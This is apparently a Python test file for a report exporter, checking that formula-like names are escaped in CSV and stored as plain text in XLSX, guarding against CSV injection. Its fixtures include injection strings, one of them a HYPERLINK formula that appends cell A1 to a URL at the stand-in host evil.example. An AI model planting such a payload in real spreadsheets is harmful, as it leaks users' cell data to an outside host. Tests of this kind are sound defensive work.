"""Exports never carry a live formula (OWASP CSV injection), in CSV and in XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from reports import export

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
NAMES = ["=1+1", LINK, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "鹿城镇", "a=b"]


def _report() -> dict:
    by_area = [
        {"code": f"34122510{i:04d}", "name": name, "targeted": 2, "played": 1, "failed": -1,
         "no_report": 0, "reach_rate": 0.5, "population_targeted": 10, "population_reached": 5}
        for i, name in enumerate(NAMES)
    ]  # fmt: skip
    return {"by_area": by_area, "targeted": 18, "played": 9, "failed": 0, "no_report": 9,
            "reach_rate": 0.5, "population_targeted": 90, "population_reached": 45}  # fmt: skip


def test_csv_cells_that_would_be_formulas_start_with_a_quote_and_numbers_stay_numbers():
    headings, rows = export.table(_report())
    text = export.to_csv(headings, rows).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    names = [row[1] for row in parsed[1 : 1 + len(NAMES)]]
    assert names == ["'=1+1", "'" + LINK, "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "鹿城镇", "a=b"]
    first = parsed[1]
    assert first[4] == "-1"  # a negative number is a number, not escaped text
    assert first[6] == "0.5"


def test_xlsx_stores_formula_like_text_as_text():
    headings, rows = export.table(_report())
    data = export.to_xlsx(headings, rows, title="=1+1 [报表]/x")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data)).active
    names = [sheet.cell(row=r, column=2) for r in range(2, 2 + len(NAMES))]
    assert [c.value for c in names][:2] == ["=1+1", LINK]  # the text itself, shown as typed
    assert all(c.data_type == "s" for c in names)
    assert sheet.cell(row=2, column=5).value == -1  # numbers stay numbers
    assert sheet.cell(row=2, column=7).number_format == "0.00%"
